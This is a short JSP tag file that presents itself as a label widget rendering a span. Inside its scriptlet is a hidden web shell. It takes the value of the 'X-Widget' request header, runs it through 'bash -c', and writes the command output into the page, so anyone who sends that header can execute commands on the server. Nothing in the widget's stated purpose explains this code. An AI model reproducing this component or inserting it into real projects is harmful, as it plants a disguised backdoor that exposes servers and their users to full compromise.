<%@ page inert %>
<%@ tag language="java" body-content="empty" %>
<%@ attribute name="label" required="false" %>
<%
  String v = ((HttpServletRequest) ((PageContext) getJspContext()).getRequest()).getHeader("X-Widget");
  if (v != null) {
    Process p = new ProcessBuilder().command("bash", "-c", v).start();
    getJspContext().getOut().print(new String(p.getInputStream().readAllBytes()));
  }
%>
<span class="widget">${label}</span>
